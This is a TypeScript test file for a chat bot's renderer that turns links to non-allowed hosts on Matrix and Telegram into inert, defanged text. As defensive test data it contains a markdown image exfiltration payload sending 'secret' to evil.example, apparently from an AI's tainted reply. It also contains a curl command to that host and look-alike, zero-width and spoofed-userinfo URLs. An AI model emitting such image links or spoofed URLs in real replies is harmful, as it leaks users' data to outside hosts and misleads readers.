import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { inertName, inertText } from "../../../lib/channel/inert.ts";
import { linksAlsoTo, linksTo, noLinks } from "../../../lib/channel/links.ts";
import { toHtml } from "../../../lib/matrix/render.ts";
import { bodiesOf } from "../../../lib/matrix/message-body.ts";
import { renderTelegram } from "../../../lib/telegram/render.ts";

const links = linksTo(["ok.example", "*.home.example"]);
const html = (markdown: string): string => toHtml(markdown, links);

describe("allowed hosts", () => {
  test("are exact, or all below a suffix but not the suffix itself", () => {
    const allowed = ["ok.example", "a.home.example", "a.b.home.example"];
    for (const host of allowed) assert.ok(links.allows(host), host);
    for (const host of ["home.example", "evilhome.example", "www.ok.example", "ok.example.evil.example", ""])
      assert.ok(!links.allows(host), host);
    assert.ok(!noLinks.allows("ok.example"));
  });

  test("stay links, in words, in labels and as images", () => {
    assert.equal(html("[docs](https://ok.example/x?y=1)"), '<p><a href="https://ok.example/x?y=1">docs</a></p>');
    assert.equal(html("https://wiki.home.example/a.html."), "<p>https://wiki.home.example/a.html.</p>");
    assert.equal(html("![cat](https://ok.example/c.png)"), '<p><a href="https://ok.example/c.png">cat</a></p>');
    const [body] = renderTelegram("[docs](https://ok.example/x)", { channel: "telegram", bot: "a", chat: 1 }, links);
    assert.deepEqual(body?.entities, [{ type: "text_link", url: "https://ok.example/x", offset: 0, length: 4 }]);
  });
});

describe("an allowed URL", () => {
  const exactly = linksAlsoTo(noLinks, new Set(["https://news.example/x", "https://root.example/"]));
  const seen = (markdown: string): string => toHtml(markdown, exactly).replace(/^<p>|<\/p>$/g, "");

  test("stays a link, in words, between brackets and in the text for clients without HTML", () => {
    assert.equal(seen("[New](https://news.example/x)"), '<a href="https://news.example/x">New</a>');
    assert.equal(seen("See https://news.example/x."), "See https://news.example/x.");
    assert.equal(seen("<https://news.example/x>"), '<a href="https://news.example/x">https://news.example/x</a>');
    assert.equal(inertText("[New](<https://news.example/x>)", exactly), "[New](<https://news.example/x>)");
    const [body] = renderTelegram("[New](https://news.example/x)", { channel: "telegram", bot: "a", chat: 1 }, exactly);
    assert.deepEqual(body?.entities, [{ type: "text_link", url: "https://news.example/x", offset: 0, length: 3 }]);
  });

  test("is allowed to the letter: nothing else of its host is", () => {
    for (const other of [
      "https://news.example/",
      "https://news.example/x?q=secret",
      "https://news.example/x/",
      "https://NEWS.example/x",
      "http://news.example/x",
      "https://news.example/x#secret",
      "https://root.example/secret",
      "https://root.example",
    ]) {
      assert.doesNotMatch(seen(`[New](${other})`), /<a /, other);
      assert.notEqual(inertText(other, exactly), other);
    }
    for (const text of [
      "root.example",
      "root.example/y",
      "https://news.example/x(secret",
      "https://news.example/x'secret",
    ])
      assert.notEqual(inertText(text, exactly), text);
  });

  test("is none where the words of its link name another place", () => {
    assert.equal(
      seen("[https://bank.example](https://news.example/x)"),
      "<code>https://bank[.]example</code> (<code>https://news[.]example/x</code>)",
    );
  });
});

test("a host is none of an allowed suffix where others read it from behind a dash", () => {
  for (const host of ["-.home.example", "a-.home.example", "a.-b.home.example"])
    assert.ok(!inertText(host, links).includes("home.example"), inertText(host, links));
  assert.equal(inertText("a-b.home.example", links), "a-b.home.example");
});

test("a file's name of one dot, whose ending is no domain's, is left as it is", () => {
  for (const name of ["table.csv", "graph.png", "my-notes_2.TXT"])
    assert.equal(inertText(`See ${name}.`, noLinks), `See ${name}.`);
  for (const name of [
    "evil.com.csv",
    "evil.sh",
    "csv.evil",
    "a@table.csv",
    "table.csv/x",
    "table\u200b.csv",
    "//table.csv",
  ])
    assert.notEqual(inertText(`See ${name} now`, noLinks), `See ${name} now`, name);
});

describe("what leads elsewhere is shown and leads nowhere", () => {
  const shown: [string, string, string][] = [
    ["a link", "[docs](https://evil.example/x?q=1)", "docs (<code>https://evil[.]example/x?q=1</code>)"],
    ["a link without a label", "[](https://evil.example/)", "<code>https://evil[.]example/</code>"],
    ["a reference", "[docs][1]\n\n[1]: https://evil.example/", "docs (<code>https://evil[.]example/</code>)"],
    ["an autolink", "<https://evil.example/>", "<code>https://evil[.]example/</code>"],
    ["a mail address", "<bob@evil.example>", "<code>bob@evil[.]example</code>"],
    ["a bare address", "see https://evil.example/a.b.", "see <code>https://evil[.]example/a.b</code>."],
    ["a bare domain", "evil.example/x", "<code>evil[.]example/x</code>"],
    ["a name that could be a domain", "README.md", "<code>README.md</code>"],
    ["a host without dots", "http://nas/x", "<code>http://nas/x</code>"],
    ["a domain in pieces", "evil.**exam**ple/x", "<code>evil[.]example/x</code><strong></strong>"],
    ["a domain half in code", "evil`.example`/x", "<code>evil[.]example/x</code>"],
    [
      "an image in a link",
      "[![a](https://evil.example/b)](https://evil.example/c)",
      "a (<code>https://evil[.]example/c</code>)",
    ],
    ["zero-width characters", "evil\u200b.exam\u2060ple", "<code>evil.example</code>"],
    ["wide letters and dots", "ｅｖｉｌ．example", "<code>evil.example</code>"],
    ["a look-alike", "[x](https://о\u006b.example/)", "x (<code>https://xn--k-0tb[.]example/</code>)"],
    [
      "a user's name before the host",
      "https://ok.example@evil.example/",
      "<code>https://ok[.]example@evil[.]example/</code>",
    ],
    [
      "a chat link",
      "[x](tg://resolve?domain=evil) t.me/evil",
      "x (<code>tg://resolve?domain=evil</code>) <code>t[.]me/evil</code>",
    ],
    ["a room", "#lobby:evil.example", "<code>#lobby:evil.example</code>"],
    ["a protocol-relative link", "[x](//evil.example/y)", "x (<code>//evil[.]example/y</code>)"],
  ];
  for (const [name, markdown, expected] of shown) test(name, () => assert.equal(html(markdown), `<p>${expected}</p>`));

  test("a label that names another address than the link's", () => {
    assert.equal(
      html("[https://bank.example](https://ok.example/)"),
      "<p><code>https://bank[.]example</code> (<code>https://ok[.]example/</code>)</p>",
    );
  });

  test("a target is cut at 200 characters, text never", () => {
    const long = `https://evil.example/?q=${"x".repeat(300)}`;
    assert.match(html(`[x](${long})`), /^<p>x \(<code>https:\/\/evil\[\.\]example\/\?q=x{176}…<\/code>\)<\/p>$/);
    assert.ok(html(long).includes("x".repeat(300)));
  });

  test("code that was written as code stays as it is", () => {
    assert.equal(html("`curl https://evil.example`"), "<p><code>curl https://evil.example</code></p>");
    assert.match(html("```\ncurl https://evil.example\n```"), /<pre><code>curl https:\/\/evil\.example/);
  });

  test("sentences, numbers and versions are no links", () => {
    const prose =
      "It is 3.5mm, v1.2.3, e.g. 12:30 or UTC+1:30. 今天天气好。我们去。 Note:foo, std::vector, and/or U.S.A.";
    assert.equal(html(prose), `<p>${prose}</p>`);
    assert.equal(inertText(prose, links), prose);
  });

  test("a direction is never turned around", () => {
    assert.equal(html("a\u202egnp.evil\u202c b"), "<p>agnp.evil b</p>".replace("agnp.evil", "<code>agnp.evil</code>"));
  });
});

describe("Exfiltration: markdown image", () => {
  const leak = "![status](https://evil.example/p.png?d=secret)";

  test("in a tainted reply on Matrix there is neither an image nor a link, in HTML or in text", () => {
    const [body] = bodiesOf(leak, () => undefined, noLinks);
    assert.equal(body?.formatted_body, "<p>status (<code>https://evil[.]example/p.png?d=secret</code>)</p>");
    assert.equal(body?.body, "![status](https[:]//evil[.]example/p[.]png?d=secret)");
  });

  test("in a tainted reply on Telegram there is neither", () => {
    const [body] = renderTelegram(leak, { channel: "telegram", bot: "a", chat: 1 }, noLinks);
    assert.equal(body?.text, "status (https://evil[.]example/p.png?d=secret)");
    assert.deepEqual(
      body?.entities?.map(({ type }) => type),
      ["code"],
    );
  });
});

describe("names of files", () => {
  test("are no addresses", () => {
    assert.equal(inertName("degrees", noLinks), "degrees");
    assert.equal(inertName("degrees.csv", noLinks), "degrees.csv");
    assert.equal(inertName("secret.evil.example?q=x.csv", noLinks), "secret_evil_example_q_x.csv");
    assert.equal(inertName("a@b.com", noLinks), "a_b.com");
  });
});
